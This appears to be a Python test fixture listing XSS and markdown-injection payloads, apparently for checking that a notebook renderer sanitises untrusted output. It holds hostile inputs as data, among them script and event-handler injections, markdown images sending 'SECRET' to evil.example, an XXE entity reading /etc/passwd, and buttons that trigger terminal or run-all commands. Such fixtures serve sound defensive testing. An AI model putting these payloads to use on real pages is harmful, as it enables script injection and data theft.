"""Texts that try to run a script, to fetch something or to leave their place in a page.

`PAYLOADS` are our own; `PUBLIC` are those of the package brs-kb (MIT), which the tests install.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from brs_kb.payloads import FULL_PAYLOAD_DATABASE

if TYPE_CHECKING:
    from collections.abc import Iterable

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=key><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example' ping='https://evil.example'>x</a>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<div style=position:fixed;inset:0 class=jp-Dialog>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "<xss data-commandlinker-command=terminal:create-new>x</xss>",
    "<button data-commandlinker-command='notebook:run-all-cells'>x</button>",
    "<sub onclick=alert(1)>x</sub>",
    "<sub><script>alert(1)</script></sub>",
    "<kbd><sup><sub></kbd></sup></sub>",
    "<br onload=alert(1)>",
    "<sub <img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](/api/contents?token=1)",
    "[x](#jp-main-dock-panel)",
    "[x](blob:https://evil.example/1)",
    "[x](https://a.b 'x\" onclick=\"alert(1)')",
    '[x](https://a.b"onclick="alert(1))',
    '[x](<https://a.b" onclick=alert(1) x=">)',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](https://evil.example/?d=SECRET)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x][1]\n\n[1]: https://evil.example/?d=SECRET",
    '![x" onerror="alert(1)](https://evil.example/x.png "t\\" onerror=\\"alert(1)")',
    "[![x](https://evil.example/p)](javascript:alert(1))",
    "![a ![b](https://evil.example/b)](https://evil.example/a)",
    "![x](https://[evil)",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "~~~<img src=x onerror=alert(1)>\n~~~",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "> <script>\n> alert(1)\n> </script>",
    "- [x] <img src=x onerror=alert(1)>",
    "a[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    'a[^"><script>]\n\n[^"><script>]: x',
    "$<img src=x onerror=alert(1)>$",
    "$$</div><script>alert(1)</script>$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "$\\style{position:fixed;background:url(https://evil.example)}{x}$",
    "$\\class{jp-Dialog}{x}$ $\\cssId{main}{x}$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "$\\newcommand{\\frac}[2]{gone}$",
    "$\\bbox[url(https://evil.example)]{x}$",
    '<div class="mibyan-plain" style="position:fixed">',
    '"><div class="mibyan-code" ',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ud800<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
    "https://a.b/<script>alert(1)</script>",
    'https://a.b/"onmouseover="alert(1)',
    "{{7*7}} ${7*7} <%= 7*7 %>",
]

PUBLIC = sorted({entry.payload.replace("\r\n", "\n") for entry in FULL_PAYLOAD_DATABASE.values()})


def one_document(payloads: Iterable[str]) -> str:
    """One answer of them all, each in a list of its own that a line closes.

    A fence or formula that one of them leaves open ends there, and hides no other.
    """
    items = (payload.replace("\n", "\n  ") for payload in payloads)
    return "".join(f"- {item}\n\n***\n\n" for item in items)
